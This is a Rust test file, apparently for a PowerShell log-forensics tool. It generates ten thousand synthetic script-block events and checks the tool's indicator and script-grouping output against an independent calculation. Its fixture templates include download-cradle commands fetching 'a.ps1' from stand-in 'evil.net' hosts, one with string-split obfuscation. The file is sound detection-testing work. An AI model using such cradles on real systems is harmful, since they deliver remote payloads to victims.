//! Indicators and scripts of ten thousand generated script blocks against a calculation from the records alone.

use super::EVERYTHING;
use scriptscope::inventory::{BlockFilter, Sameness, ScriptQuery};
use scriptscope::report::IndicatorQuery;
use scriptscope::{Options, RuleFile, Session};
use std::collections::{BTreeMap, BTreeSet};

const COUNT: u64 = 10_000;

/// A script block: computer, user, day, template of its text, a host, and a number that is only a value.
struct Made {
    computer: u64,
    user: u64,
    day: u64,
    second: u64,
    template: usize,
    host: u64,
    value: u64,
}

/// Texts with an address, and its URL by the number of the host.
const TEMPLATES: [&str; 4] = [
    "Invoke-WebRequest http://h{host}.evil.net/a.ps1 -TimeoutSec {value}",
    "iwr ('http://h{host}.ev'+'il.net/a.ps1'); Start-Sleep {value}",
    "Start-Sleep {value} # see http://h{host}.evil.net/a.ps1",
    "Test-Connection h{host}.evil.net -Count {value}",
];

fn made() -> Vec<Made> {
    let mut state = 0x2545_F491_4F6C_DD1D_u64;
    let mut next = |below: u64| {
        state =
            state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        (state >> 33) % below
    };
    let mut block = |_| Made {
        computer: next(40),
        user: next(12),
        day: next(20),
        second: next(86_400),
        template: usize::try_from(next(TEMPLATES.len() as u64)).unwrap(),
        host: next(60),
        value: next(15),
    };
    (0..COUNT).map(&mut block).collect()
}

impl Made {
    fn text(&self) -> String {
        let text = TEMPLATES[self.template].replace("{host}", &self.host.to_string());
        text.replace("{value}", &self.value.to_string())
    }

    /// What is the same in texts that differ in values. A command's argument that is a bare word is no value, but its digits
    /// are; a comment keeps its words without their digits.
    fn shape(&self) -> String {
        self.template.to_string()
    }

    fn time(&self) -> String {
        let (day, second) = (self.day + 1, self.second);
        let (hour, minute, second) = (second / 3_600, second / 60 % 60, second % 60);
        format!("2026-08-{day:02}T{hour:02}:{minute:02}:{second:02}Z")
    }
}

fn session(blocks: &[Made]) -> Session {
    let rule = RuleFile::new("everything.yml", EVERYTHING);
    let options = Options::default().with_builtin(false).with_inventory(true).with_rules([rule]);
    let mut session = Session::new(options).unwrap();
    session.begin("log.ndjson").unwrap();
    for (index, block) in blocks.iter().enumerate() {
        let (computer, user, text, time) = (block.computer, block.user, block.text(), block.time());
        let record = format!(
            r#"{{"EventID":4104,"Channel":"Microsoft-Windows-PowerShell/Operational","Computer":"H{computer}","UserID":"S-1-5-21-1-2-3-{user}","TimeCreated":"{time}","EventRecordID":{index},"MessageNumber":1,"MessageTotal":1,"ScriptBlockId":"{index}","ScriptBlockText":"{text}"}}
"#
        );
        session.push(record.as_bytes()).unwrap();
    }
    session.end().unwrap();
    session
}

/// Count, number of computers, first and last time of each indicator, by kind and value.
type Indicators = BTreeMap<(String, String), (u64, u64, String, String)>;

fn indicators<'a>(blocks: impl Iterator<Item = &'a Made>) -> Indicators {
    let mut found: BTreeMap<(String, String), (BTreeSet<u64>, Vec<String>)> = BTreeMap::new();
    for block in blocks {
        let host = format!("h{}.evil.net", block.host);
        let url = (block.template < 3).then(|| ("url".to_owned(), format!("http://{host}/a.ps1")));
        for key in url.into_iter().chain([("host".to_owned(), host)]) {
            let (computers, times) = found.entry(key).or_default();
            computers.insert(block.computer);
            times.push(block.time());
        }
    }
    let figures = |(computers, mut times): (BTreeSet<u64>, Vec<String>)| {
        times.sort_unstable();
        let (first, last) = (times[0].clone(), times[times.len() - 1].clone());
        (times.len() as u64, computers.len() as u64, first, last)
    };
    found.into_iter().map(|(key, own)| (key, figures(own))).collect()
}

fn listed(session: &mut Session, filter: &BlockFilter) -> Indicators {
    let list = session.indicators_of_blocks(&IndicatorQuery::default(), filter).unwrap();
    assert!(list.problems.is_empty(), "{:?}", list.problems);
    let rows = list.rows.into_iter().map(|row| {
        let times = [row.first_time, row.last_time].map(Option::unwrap);
        let [first, last] = times;
        ((row.kind.as_str().to_owned(), row.value), (row.count, row.computers, first, last))
    });
    rows.collect()
}

#[test]
fn indicators_of_ten_thousand_script_blocks_equal_a_calculation_from_the_records() {
    let blocks = made();
    let mut session = session(&blocks);
    assert_eq!(listed(&mut session, &BlockFilter::default()), indicators(blocks.iter()));
    let filter = BlockFilter {
        computer: Some("H7".into()),
        from: Some("2026-08-05".into()),
        to: Some("2026-08-09".into()),
        ..BlockFilter::default()
    };
    let is_chosen = |block: &&Made| block.computer == 7 && (4..8).contains(&block.day);
    assert_eq!(listed(&mut session, &filter), indicators(blocks.iter().filter(is_chosen)));
}

#[test]
fn scripts_of_ten_thousand_script_blocks_equal_a_calculation_from_the_records() {
    let blocks = made();
    let mut session = session(&blocks);
    for by in Sameness::ALL {
        let mut groups: BTreeMap<String, Vec<&Made>> = BTreeMap::new();
        for block in &blocks {
            let key = if by == Sameness::Text { block.text() } else { block.shape() };
            groups.entry(key).or_default().push(block);
        }
        let distinct = |own: &[&Made], part: fn(&Made) -> u64| {
            own.iter().map(|block| part(block)).collect::<BTreeSet<_>>().len()
        };
        let mut expected: Vec<_> = groups
            .into_values()
            .map(|own| {
                let texts = own.iter().map(|block| block.text()).collect::<BTreeSet<_>>().len();
                let counts = [
                    distinct(&own, |block| block.computer),
                    own.len(),
                    distinct(&own, |block| block.day),
                    distinct(&own, |block| block.user),
                    texts,
                ];
                let first = own.iter().map(|block| block.time()).min().unwrap();
                let last = own.iter().map(|block| block.time()).max().unwrap();
                (counts, first, last)
            })
            .collect();
        expected.sort_unstable();
        let list = session.list_scripts(&ScriptQuery { by, ..ScriptQuery::default() }).unwrap();
        let mut found: Vec<_> = list
            .rows
            .into_iter()
            .map(|row| {
                let counts = [row.computers, row.blocks, row.days, row.users, row.texts];
                let times = [row.first_time, row.last_time].map(Option::unwrap);
                let [first, last] = times;
                (counts.map(|count| count as usize), first, last)
            })
            .collect();
        // Rarest first: by computers, blocks and days.
        assert!(found.is_sorted_by_key(|(counts, ..)| (counts[0], counts[1], counts[2])));
        found.sort_unstable();
        assert_eq!(found, expected, "{by:?}");
    }
}
